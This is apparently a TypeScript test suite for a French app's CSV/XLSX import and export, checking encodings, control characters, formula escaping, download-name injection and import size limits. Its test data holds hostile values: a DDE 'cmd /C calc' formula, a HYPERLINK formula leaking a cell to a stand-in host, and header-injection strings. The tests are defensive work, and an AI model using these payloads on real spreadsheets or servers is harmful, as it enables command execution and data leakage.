/**
 * Files in and out, as French users make and open them: CSV saved by Excel in
 * Windows-1252, cells a spreadsheet would run as formulas, download names
 * built from parameters, imports far too large.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SYSTEM_USER } from '../../server/domain/access.ts';
import { MAX_BILANS_LINES } from '../../server/exchange/bilans-csv.ts';
import { MAX_REGISTRY_LINES } from '../../server/exchange/registry-csv.ts';
import { readAnswers } from '../../server/repositories/bilan-answers.repository.ts';
import { Client, completeAnswers, PASSWORD, seedWorld, snapshot, startTestServer, WORLD, type TestServer } from './support/server.ts';
import { PageClient, text } from './web.helpers.ts';

let server: TestServer;
let admin: Client;

/** Text as French Excel saves "CSV (séparateur : point-virgule)": Windows-1252. */
function windows1252(text: string): Buffer {
  const special: Record<string, number> = { '–': 0x96, '’': 0x92, 'œ': 0x9c, 'Œ': 0x8c, '€': 0x80, '…': 0x85, '«': 0xab, '»': 0xbb };
  return Buffer.from([...text].map((c) => special[c] ?? (c.charCodeAt(0) < 256 ? c.charCodeAt(0) : 0x3f)));
}

const csvPost = (client: Client, url: string, body: string | Buffer) => client.app.inject({
  method: 'POST',
  url,
  headers: { cookie: `bilan_clsm_session=${client.cookie}`, 'x-csrf-token': client.csrf!, 'content-type': 'text/csv' },
  payload: body,
});

const storedAnswers = async (clsmId: string, annee: number) => {
  const row = await server.app.db.selectFrom('bilans').select('id').where('clsm_id', '=', clsmId).where('annee', '=', annee).executeTakeFirstOrThrow();
  return readAnswers(server.app.db, row.id);
};

beforeAll(async () => {
  server = await startTestServer();
  await seedWorld(server);
  admin = await Client.as(server.app, 'admin');
});
afterAll(() => server.close());

describe('CSV saved by French Excel (Windows-1252)', () => {
  it('a registry is read as Windows-1252, stored with its accents, and the report says so', async () => {
    const file = windows1252('clsm_id;nom;region;departement;annee_creation;statut\r\nw1;CLSM Créteil Évry – cœur d’agglomération;11;94;2014;actif\r\n');
    const res = await csvPost(admin, '/api/import/registre', file);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ ok: true, created: 1, encoding: 'windows-1252', notes: [expect.stringContaining('Windows-1252')] });
    expect((await admin.get('/api/clsm/w1')).json().nom).toBe('CLSM Créteil Évry – cœur d’agglomération');
  });

  it('bilans replacing validated ones keep every accent (no U+FFFD stored)', async () => {
    const full = completeAnswers();
    expect((await admin.put('/api/bilans/a1/2025', { answers: full, version: 0 })).statusCode).toBe(200);
    await admin.post('/api/bilans/a1/2025/submit');
    await admin.post('/api/bilans/a1/2025/validate');
    const text = 'Réunions à l’hôtel de ville, élu·es et bénévoles ; « santé mentale » en Œuvre';
    const file = windows1252(`clsm_id;annee;commentaires;copil_existe\r\na1;2025;${text.replace(';', ',')};oui\r\n`);
    const res = await csvPost(admin, '/api/import/bilans?remplacer=oui', file);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ replaced: 1, encoding: 'windows-1252' });
    expect((await storedAnswers('a1', 2025)).commentaires).toBe(text.replace(';', ','));
    const everything = JSON.stringify(await snapshot(server.app));
    expect(everything).not.toContain('\uFFFD');
  });

  it('the registry page takes the same file: the preview says Windows-1252, the confirmation stores the accents', async () => {
    const page = await PageClient.as(server.app, WORLD.users.admin.email, PASSWORD);
    await page.get('/admin/registre/import');
    const file = windows1252('clsm_id;nom;region;departement;annee_creation;statut\r\nw2;CLSM Évreux – Cœur d’Eure;28;27;2016;actif\r\n');
    const preview = await page.postFile('/admin/registre/import', {}, { field: 'fichier', name: 'registre.csv', content: file });
    expect(preview.statusCode, preview.body).toBe(200);
    expect(text(preview.body)).toContain('Fichier lu en Windows-1252');
    expect(text(preview.body)).toContain('CLSM Évreux – Cœur d’Eure (w2)');
    const content = /<textarea name="contenu" hidden>([\s\S]*?)<\/textarea>/.exec(preview.body)![1]!.replaceAll('&#39;', "'").replaceAll('&amp;', '&');
    const confirmed = await page.postFile('/admin/registre/import/confirmation', { contenu: content, fichier_nom: 'registre.csv' });
    expect(confirmed.statusCode, confirmed.body).toBe(303);
    expect((await admin.get('/api/clsm/w2')).json().nom).toBe('CLSM Évreux – Cœur d’Eure');
  });

  it('UTF-8 with or without BOM is read as UTF-8, with no note', async () => {
    for (const [id, bom] of [['u1', ''], ['u2', '\uFEFF']]) {
      const res = await csvPost(admin, '/api/import/registre', Buffer.from(`${bom}clsm_id;nom;region;departement;statut\n${id};CLSM Évry-Courcouronnes;11;91;actif\n`, 'utf8'));
      expect(res.json()).toMatchObject({ ok: true, encoding: 'utf-8', notes: [] });
      expect((await admin.get(`/api/clsm/${id}`)).json().nom).toBe('CLSM Évry-Courcouronnes');
    }
  });

  it('a cell already holding U+FFFD (a character lost before) is refused, naming the line and column', async () => {
    const before = await snapshot(server.app);
    const res = await csvPost(admin, '/api/import/registre', Buffer.from('clsm_id;nom;region;departement;statut\nx9;CLSM Cr\uFFFDteil;11;94;actif\n', 'utf8'));
    expect(res.statusCode).toBe(400);
    expect(res.json().issues).toEqual([expect.objectContaining({ ligne: 2, message: expect.stringMatching(/caractère illisible .*\(colonne nom\).*« CSV UTF-8 »/) })]);
    expect(await snapshot(server.app)).toEqual(before);
  });
});

describe('text that cannot be stored', () => {
  it.each([
    ['NUL', 'a\u0000b', /U\+0000/],
    ['escape', 'a\u001b[31mb', /U\+001B/],
    ['a lone surrogate', 'a\ud800b', /moitié de paire/],
  ])('%s in an answer: French 400 naming the question, nothing saved', async (_label, value, pattern) => {
    const coord = await Client.as(server.app, 'coordB1');
    const before = await snapshot(server.app);
    const res = await coord.put('/api/bilans/b1/2025', { answers: { commentaires: value }, version: 0 });
    expect(res.statusCode).toBe(400);
    expect(res.json().issues).toEqual([expect.objectContaining({ variable: 'commentaires', message: expect.stringMatching(pattern) })]);
    expect(res.json().issues[0].message).toMatch(/^Section \d+ — /);
    expect(await snapshot(server.app)).toEqual(before);
  });

  it('tabs and line breaks are kept', async () => {
    const coord = await Client.as(server.app, 'coordB1');
    const res = await coord.put('/api/bilans/b1/2025', { answers: { commentaires: 'Rennes\tCesson\r\nBruz' }, version: 0 });
    expect(res.statusCode, res.body).toBe(200);
  });

  it('an imported line with a control character is refused like a typed one', async () => {
    const res = await csvPost(admin, '/api/import/bilans', Buffer.from('clsm_id;annee;terr_communes\na2;2019;Vitry\u0007\n', 'utf8'));
    expect(res.statusCode).toBe(400);
    expect(res.json().issues[0]).toMatchObject({ ligne: 2, variable: 'terr_communes', message: expect.stringContaining('U+0007') });
  });

  it('registry names too (import and API)', async () => {
    let res = await csvPost(admin, '/api/import/registre', Buffer.from('clsm_id;nom;region;departement;statut\nz1;CLSM\u0000Z;11;94;actif\n', 'utf8'));
    expect(res.statusCode).toBe(400);
    expect(res.json().issues[0].message).toMatch(/^nom : .*U\+0000/);
    res = await admin.post('/api/clsm', { id: 'z2', nom: 'CLSM\u0008', region: '11', departement: '94', statut: 'actif' });
    expect(res.statusCode).toBe(400);
    expect(res.json().issues[0]).toMatchObject({ variable: 'nom' });
  });
});

describe('cells a spreadsheet would run as formulas', () => {
  const formula = '=HYPERLINK("http://exemple.invalid/?x="&A1;"cliquer")';
  const lines = ['-cmd|\' /C calc\'!A0', '+33 1 02 03 04', '@SUM(1+1)', '\tcaché', '- premier point\n- second point'];

  beforeAll(async () => {
    await server.app.services.clsm.create(SYSTEM_USER, { id: 'f1', nom: '=1+1 CLSM', region: '11', departement: '93', statut: 'actif' });
    const answers = { commentaires: formula, terr_etablissements_psy: lines.join(' / '), copil_existe: 'oui', copil_nb_reunions: 2, copil_membres_autres: '@pilotage' };
    expect((await admin.put('/api/bilans/f1/2025', { answers, version: 0 })).statusCode).toBe(200);
  });

  it('are written with a leading apostrophe in every CSV: export, registry, follow-up', async () => {
    const exported = (await admin.get('/api/export?format=csv&annee=2025&region=11&inclure_donnees_personnelles=oui')).body;
    const row = exported.split('\r\n').find((l) => l.startsWith('f1;'))!;
    expect(row).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(row).toContain(";'@pilotage");
    expect(row).not.toMatch(/;[=+@-]/);
    const registry = await server.app.services.clsm.exportCsv(SYSTEM_USER);
    expect(registry).toContain("f1;'=1+1 CLSM;11;93");
    const suivi = (await admin.get('/suivi.csv?annee=2025')).body;
    expect(suivi).toContain("f1;'=1+1 CLSM;11;93;2025;brouillon");
  });

  it('plain numbers are left alone', async () => {
    const { spreadsheetCsv } = await import('../../analytics/index.ts');
    expect(spreadsheetCsv([['n', 'x'], [-3, '-1,5'], ['-2+3', '+1']])).toBe("\uFEFFn;x\r\n-3;-1,5\r\n'-2+3;'+1\r\n");
  });

  it('export → import gives the text back as typed (the apostrophe is taken off)', async () => {
    const exported = (await admin.get('/api/export?format=csv&annee=2025&region=11&inclure_donnees_personnelles=oui')).body;
    const only = exported.split('\r\n').filter((l, i) => i === 0 || l.startsWith('f1;')).join('\r\n');
    const target = await startTestServer();
    try {
      await seedWorld(target);
      await target.app.services.clsm.create(SYSTEM_USER, { id: 'f1', nom: 'CLSM F1', region: '11', departement: '93', statut: 'actif' });
      const res = await csvPost(await Client.as(target.app, 'admin'), '/api/import/bilans?statut=brouillon', only);
      expect(res.statusCode, res.body).toBe(200);
      const row = await target.app.db.selectFrom('bilans').select('id').where('clsm_id', '=', 'f1').executeTakeFirstOrThrow();
      expect(await readAnswers(target.app.db, row.id)).toEqual(await storedAnswers('f1', 2025));
    } finally {
      await target.close();
    }
  });

  it('XLSX cells stay text, never formulas', async () => {
    const res = await admin.get('/api/export?format=xlsx&annee=2025&region=11&inclure_donnees_personnelles=oui');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('bilans')!;
    const header = (sheet.getRow(1).values as string[]).slice(1);
    const f1 = [...Array(sheet.rowCount).keys()].map((i) => sheet.getRow(i + 1)).find((r) => r.getCell(1).value === 'f1')!;
    const cell = f1.getCell(header.indexOf('commentaires') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(formula);
  });
});

describe('download names', () => {
  it('a région that is not a code is a French 400 (no second filename, no 500)', async () => {
    for (const region of ['11"; filename="evil.exe', 'Île-de-France’s', 'œ', '11\r\nSet-Cookie: x=1']) {
      const res = await admin.get(`/api/export?region=${encodeURIComponent(region)}`);
      expect(res.statusCode, region).toBe(400);
      expect(res.json().message).toMatch(/code de région attendu/);
      expect(res.headers['content-disposition']).toBeUndefined();
    }
    const page = await admin.get(`/suivi.csv?departement=${encodeURIComponent('93"; filename="x.exe')}`);
    expect(page.statusCode).toBe(400);
  });

  it('valid codes give one plain file name', async () => {
    const res = await admin.get('/api/export?annee=2025&region=11&departement=93');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename=bilans-clsm-2025-11-93.csv');
    const suivi = await admin.get('/suivi.csv?annee=2025');
    expect(suivi.headers['content-disposition']).toBe('attachment; filename=suivi-campagne-2025.csv');
  });
});

describe('large imports', () => {
  const registry = (n: number) => ['clsm_id;nom;region;departement;statut', ...Array.from({ length: n }, (_, i) => `g${i};CLSM G${i};53;35;actif`)].join('\n');

  it(`a registry of more than ${MAX_REGISTRY_LINES} CLSM is refused in French, nothing imported`, async () => {
    const before = await snapshot(server.app);
    const res = await csvPost(admin, '/api/import/registre', registry(250_000));
    expect(res.statusCode).toBe(400);
    expect(res.json().issues).toEqual([expect.objectContaining({ message: expect.stringMatching(/plus de 2\s000 CLSM.*au plus 2\s000/), ligne: MAX_REGISTRY_LINES + 2 })]);
    expect(await snapshot(server.app)).toEqual(before);
  });

  it(`bilans: more than ${MAX_BILANS_LINES} lines are refused in French`, async () => {
    const lines = ['clsm_id;annee;copil_existe', ...Array.from({ length: MAX_BILANS_LINES + 1 }, () => 'a1;2019;oui')];
    const res = await csvPost(admin, '/api/import/bilans', lines.join('\n'));
    expect(res.statusCode).toBe(400);
    expect(res.json().issues).toEqual([expect.objectContaining({ message: expect.stringMatching(/plus de 5\s000 bilans/) })]);
  });

  it('other requests are answered while a large import is read and checked', async () => {
    let importDone = false;
    const importing = csvPost(admin, '/api/import/registre', registry(MAX_REGISTRY_LINES)).then((res) => {
      importDone = true;
      return res;
    });
    let answeredDuring = 0;
    const deadline = Date.now() + 60_000;
    while (!importDone && Date.now() < deadline) {
      const health = await server.app.inject({ url: '/api/health' });
      expect(health.statusCode).toBe(200);
      if (!importDone) answeredDuring++;
      await sleep(5);
    }
    const res = await importing;
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ created: MAX_REGISTRY_LINES });
    expect(answeredDuring).toBeGreaterThan(0);
  });
});
